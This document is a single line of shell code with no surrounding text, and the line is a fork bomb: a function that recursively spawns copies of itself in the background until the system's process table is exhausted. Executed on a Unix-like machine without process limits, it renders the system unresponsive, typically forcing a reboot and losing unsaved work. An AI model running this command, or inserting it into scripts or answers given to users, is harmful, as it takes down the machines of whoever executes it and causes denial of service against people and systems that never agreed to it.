f() { f | f & }; f; wait
